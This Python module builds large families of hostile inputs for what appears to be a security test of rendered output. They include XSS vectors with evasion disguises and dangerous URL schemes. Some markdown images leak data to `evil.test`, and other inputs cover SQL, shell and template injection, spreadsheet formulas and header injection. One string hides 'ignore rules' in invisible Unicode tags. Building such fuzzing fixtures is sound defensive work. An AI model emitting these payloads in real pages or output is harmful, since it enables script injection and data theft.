"""What people, pages and models may write to do harm: facts, made by families rather than listed.

Scripts among them call `alert`, addresses among them lead to `EVIL`: a test that opens a browser
watches for both. Each family is a tuple of distinct texts, in an order that never changes.
"""

# ruff: noqa: E501 (facts, many to a line)

from __future__ import annotations

from itertools import product

EVIL = "evil.test"
CODE = "alert(1)"

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle",
    "onanimationstart", "ontransitionend", "onbegin", "onstart", "oncut", "onwheel", "onscrollend",
    "onbeforeinput", "oncontentvisibilityautostatechange",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe src=x", "object data=x", "embed src=x", "marquee", "select autofocus",
    "textarea autofocus", "button autofocus", "div tabindex=1", "math", "x-tag", "style",
    "link rel=stylesheet href=x", "dialog open", "form", "a href=#", "p", "meter", "track src=x",
)  # fmt: skip
_BREAKOUTS = (
    "\">", "'>", ">", "</title>", "</textarea>", "</script>", "</style>", "</template>",
    "</noscript>", "</select>", "</option>", "-->", "--!>", "]]>", "</svg>", "</math>", "</a>",
    "</p>", "</h1>", "`>", "\\\">", "\"/>", "' />", "</summary>", "</blockquote>", "*/</script>",
    "\u2028</script>", "\x00\">", "&quot;>", "&gt;",
)  # fmt: skip
_SCRIPTS = (
    f"<script>{CODE}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<img src=//{EVIL}/pixel>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import '//{EVIL}/x.css';</style>",
)
# Each makes one tag harder to recognise for whoever looks for it with a pattern.
_DISGUISES = (
    ("<", "<\x00"), ("<", "<<"), ("<", "< "), ("<", "\uff1c"), ("<", "&lt;"), ("<", "&#60;"),
    ("<", "&#x3c;"), ("<", "\\x3c"), ("<", "\\u003c"), ("<", "%3C"), (" ", "/"), (" ", "\t"),
    (" ", "\n"), (" ", "\f"), (" ", "\r\n"), ("=", " = "), ("=", "\n="), ("=", "=`"),
    ("=", "=\""), (">", ""), (">", "//"), (">", " x="), ("img", "IMG"), ("svg", "sVg"),
    ("script", "ScRiPt"), ("script", "scr\x00ipt"), ("script", "scr<script>ipt"),
    ("on", "ON"), ("on", "o\u00adn"), ("alert", "\\u0061lert"), ("alert", "&#97;lert"),
    ("alert(1)", "alert`1`"), ("alert(1)", "window['al'+'ert'](1)"),
)  # fmt: skip
_TANGLED = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}></style></mglyph></table></math>",
    f"<svg><style><img src=x onerror={CODE}></style></svg>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={CODE} src>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<template><script>{CODE}</script></template><template shadowrootmode=open><script>{CODE}</script>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{CODE}</script></svg>#x'/></svg>",
    f"<svg><animate attributeName=href values=javascript:{CODE} /><a id=x><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{CODE}></iframe></foreignObject></svg>",
    f"<object data='data:text/html,<script>{CODE}</script>'></object>",
    f"<base href=//{EVIL}/><script src=x.js></script>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    f"<div style=\"background:url(//{EVIL}/x)\">x</div>",
    f"<div style=\"width:expression({CODE})\">x</div>",
    f"<input type=image src=//{EVIL}/x formaction=javascript:{CODE}>",
    f"<form action=//{EVIL}/><button>Send</button></form>",
    f"<video poster=//{EVIL}/x><source src=//{EVIL}/y></video>",
    f"<picture><source srcset=//{EVIL}/x><img src=y></picture>",
    f"<img srcset='//{EVIL}/1 1x, //{EVIL}/2 2x'>",
    f"<table background=//{EVIL}/x><td background=//{EVIL}/y>x",
    f"<portal src=//{EVIL}/></portal><frameset><frame src=//{EVIL}/></frameset>",
    f"<a href=//{EVIL}/ ping=//{EVIL}/ping>x</a>",
    "<form id=document><input name=cookie><input name=body></form>",
    "<img name=getElementById><img id=currentScript><a id=BotFactory href=x>",
    "<input form=composer name=question><label for=question>Send</label>",
    '<sup data-n="1">1</sup><sup data-n="999999999999">x</sup>',
    "<plaintext>", "<xmp>", "<listing>", "<!--", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x>",
    "<" * 400, "<b>" * 200, "<a href='" * 50, "&" * 300, "&#" * 100, "&#0;&#xD800;&#x110000;&NotARef;",
)  # fmt: skip

_SCHEMES = (
    f"javascript:{CODE}", f"javascript://x%0a{CODE}", f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload='{CODE}'/>", "vbscript:msgbox(1)", "livescript:x",
    "file:///etc/passwd", f"blob:https://{EVIL}/1", f"ftp://{EVIL}/", "about:blank",
    f"filesystem:https://{EVIL}/x", f"view-source:https://{EVIL}/", "chrome://settings",
    f"ws://{EVIL}/", f"intent://{EVIL}#Intent;scheme=x;end", "tel:+4900", f"jar:https://{EVIL}!/",
    f"//{EVIL}/x", f"///{EVIL}/x", f"/\\{EVIL}/x", f"\\\\{EVIL}\\x", f"/{EVIL}", f"{EVIL}/x",
    f"?x=//{EVIL}", f"#//{EVIL}", f"https:{EVIL}", f"https:/{EVIL}", f"http:\\\\{EVIL}",
)  # fmt: skip
# How an address is dressed up so that the browser reads another scheme than the filter.
_DRESSES = (
    lambda a: a,
    lambda a: a.upper(),
    lambda a: a.swapcase(),
    lambda a: f" {a}",
    lambda a: f"\x01{a}",
    lambda a: f"\u200b{a}",
    lambda a: f"{a[:3]}\t{a[3:]}",
    lambda a: f"{a[:3]}\n{a[3:]}",
    lambda a: f"{a[:3]}\r{a[3:]}",
    lambda a: f"{a[:3]}\x00{a[3:]}",
    lambda a: f"{a[:3]}\u00ad{a[3:]}",
    lambda a: f"&#{ord(a[0])};{a[1:]}",
    lambda a: f"&#x{ord(a[0]):x}{a[1:]}",
    lambda a: f"%{ord(a[0]):02x}{a[1:]}",
    lambda a: a.replace(":", "&colon;", 1),
    lambda a: a.replace(":", "\uff1a", 1),
    lambda a: f"{a[:2]}&Tab;{a[2:]}",
    lambda a: f"\\{a}",
)

# `{}` is an address.
_MARKDOWN_FORMS = (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "[x]({} 't\" onclick=alert(1)')", "<{}>", "[x][y]\n\n[y]: {}",
    "[x]: {}\n\n[x]", "![x]({})", "![x](<{}>)", "![x][1]\n\n[1]: {}", "[![x]({})]({})", "![![x]({})]({})",
    "x[^1]\n\n[^1]: ![y]({})", "|a|\n|-|\n|![x]({})|", "> ![x]({})", "1. [x]({})", "# [x]({})",
    "**[x]({})**", "`![x]({})`", "```\n![x]({})\n```", "~~~html\n<a href={}>\n~~~", "<a href={}>x</a>",
    "<img src={}>", "{}", "[1]({})", "[[1]]({})", "![1]({})", "[x\\]({})", "[x]( {} )",
)  # fmt: skip
_MARKDOWN_ADDRESSES = (
    f"https://{EVIL}/?d=SECRET", f"//{EVIL}/x", f"javascript:{CODE}", f"JaVa&Tab;Script:{CODE}",
    f"data:text/html,<script>{CODE}</script>", f"/widget/v1/token/?x={EVIL}",
    f"mailto:a@{EVIL}?body=x%0d%0aBcc:y", f"https://user:pass@{EVIL}/", f"https://{EVIL}\"onclick={CODE}",
    f"https://{EVIL}/'><script>{CODE}</script>",
)  # fmt: skip
FENCES = ("html", "svg", "mermaid", "math", "katex", "latex", "javascript", "dot", "jsx", "vega")
_FENCED = (
    f"<script>{CODE}</script>",
    f"graph TD; A[<img src=x onerror={CODE}>]-->B; click A href \"javascript:{CODE}\"",
    f"\\href{{javascript:{CODE}}}{{x}} \\includegraphics{{//{EVIL}/x}}",
    f"</code></pre><img src=x onerror={CODE}>",
)  # fmt: skip
_INLINE_MATH = tuple(
    form.format(body)
    for form, body in product(
        ("${}$", "$${}$$", "\\({}\\)", "\\[{}\\]"),
        (f"\\href{{javascript:{CODE}}}{{x}}", f"\\url{{//{EVIL}}}", "\\html@mathml{x}{<b>}"),
    )
)

_EXPRESSIONS = (
    "7*7", "7*'7'", "settings.SECRET_KEY", "request", "self.__class__.__mro__",
    "''.__class__.__base__.__subclasses__()", "config", "cycler.__init__.__globals__.os", "x|safe",
    "constructor.constructor('alert(1)')()", "T(java.lang.Runtime)", "env.HOME",
)  # fmt: skip
_TEMPLATE_FORMS = (
    "{{%s}}", "{%% load %s %%}", "{%% debug %%}{{ %s }}", "${%s}", "#{%s}", "<%%= %s %%>", "@(%s)", "[[%s]]",
    "{%s}", "%%{%s}", "{{{%s}}}", "*{%s}", "~{%s}",
)  # fmt: skip
_FORMATS = (
    "%s%s%s%n%x", "%(name)s", "{0.__class__}", "{self}", "{name}", "{refusal}", "{style}", "{", "}", "{{", "}}",
    "%", "%%", "$name", "${name}", "\\1\\g<0>", "\\n\\0\\x41", "%d%99999999d", "{:>99999}", "{0!r:9999}",
)  # fmt: skip
_COMMANDS = (
    "'; DROP TABLE bots_bot; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "%' ESCAPE '\\",
    "$(id)", "`id`", "; id", "| id", "&& id", "../../../etc/passwd", "..\\..\\x", "/dev/zero", "C:\\con\\con",
    "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "null", "None", "undefined", "true", "NaN",
    "Infinity", "-0", "1e400", "0x10", "9" * 400, "[object Object]", "__proto__", "constructor", "toString",
)  # fmt: skip
_FORMULAS = tuple(
    f"{sign}{body}"
    for sign, body in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "'=", '"=', ";=", ",="),
        ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("https://{EVIL}/","x")'),
    )
)
_LINES = (
    "x\r\nBcc: y@evil.test", "x\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "x\n2026-01-01 ERROR forged",
    "x\x85forged", "x\u2028forged", "x\u2029forged", "data: x\n\nevent: done\ndata: {}", "\n\nevent: error\n\n",
    ": comment\nid: 9", "x\x1b[2J\x1b[31mred", "\x1b]8;;https://evil.test\x07x", "\x1b]0;title\x07", "\x9b31m",
)  # fmt: skip

_ZALGO = "".join(chr(0x300 + n) for n in range(0x70))
_TEXTS = (
    f"Z{_ZALGO}A{_ZALGO}", "\u202egnp.exe", "\u2066a\u2069\u2067b\u2069", "\u202a" * 100, "a\u200db\u200cc\ufeffd",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20, "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "ignore rules") + "\U000e007f",
    "\ufffe\uffff", "\U0010ffff", "\ufdd0", "\u0130\u0131\u1e9e", "\ufdfa" * 50, "\u1160\u3164\uffa0", "\u00a0\u2003\u3000x\u3000",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 abc 123", "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u0e01\u0e33" * 40, "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    "p\u0430yp\u0430l", "\uff21\uff22\uff23", "\U0001d400\U0001d401", "e\u0301 \u00e9", "\ufb01", "\u212b", "a" * 300, "\u00e9" * 300, "\U0001f600" * 100,
    " x ", "\tx", "x\n\n\n\n\ny", "x\ty", "'", '"', "\\", "\\\\", "\\'", "``", "`" * 99, "*" * 99, "_" * 99, "[" * 99, "(" * 99, "#" * 99,
    ">" * 99, "- " * 99, "|" * 99, "![" * 60, "[](" * 60, "**a " * 60, "<!" * 60, "~~~", "```", "\n" * 50 + "x",
)  # fmt: skip


def _distinct(*texts: str) -> tuple[str, ...]:
    return tuple(dict.fromkeys(texts))


def _disguised(text: str) -> list[str]:
    return [text.replace(old, new) for old, new in _DISGUISES if old in text]


MARKUP = _distinct(
    *(f"<{element} {handler}={CODE}>" for element, handler in product(_ELEMENTS, _HANDLERS)),
    *(f"{breakout}{script}" for breakout, script in product(_BREAKOUTS, _SCRIPTS)),
    *(f"{quote} {handler}={CODE} autofocus x={quote}"
      for quote, handler in product(("\"", "'", "`", ""), _HANDLERS)),
    *(other for script in _SCRIPTS for other in _disguised(script)),
    *_TANGLED,
)  # fmt: skip
ADDRESSES = _distinct(*(dress(address) for address, dress in product(_SCHEMES, _DRESSES)))
MARKDOWN = _distinct(
    *(form.replace("{}", address) for form, address in product(_MARKDOWN_FORMS, _MARKDOWN_ADDRESSES)),
    *(f"```{name}\n{body}\n```" for name, body in product(FENCES, _FENCED)),
    *_INLINE_MATH,
)  # fmt: skip
EXPRESSIONS = _distinct(
    *(form % expression for form, expression in product(_TEMPLATE_FORMS, _EXPRESSIONS)),
    *_FORMATS,
    *_COMMANDS,
    *_FORMULAS,
    *_LINES,
)
TEXTS = _distinct(
    *(f"a{chr(code)}b" for code in (*range(1, 0x20), *range(0x7F, 0xA0))),
    *_TEXTS,
)
ALL = _distinct(*MARKUP, *ADDRESSES, *MARKDOWN, *EXPRESSIONS, *TEXTS)
